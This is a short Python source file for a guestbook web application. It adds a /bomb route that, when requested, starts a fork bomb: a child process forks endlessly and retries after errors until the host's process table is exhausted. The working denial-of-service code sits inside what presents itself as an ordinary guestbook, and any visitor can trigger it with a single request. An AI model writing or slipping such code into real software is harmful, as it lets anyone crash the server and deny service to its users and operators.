"""The guestbook, with a page that forks as long as it may."""

from __future__ import annotations

import os
import time

from app import app

__all__ = ["app"]


@app.get("/bomb")
def bomb() -> str:
    """Set it off."""
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(2)
    return "lit"
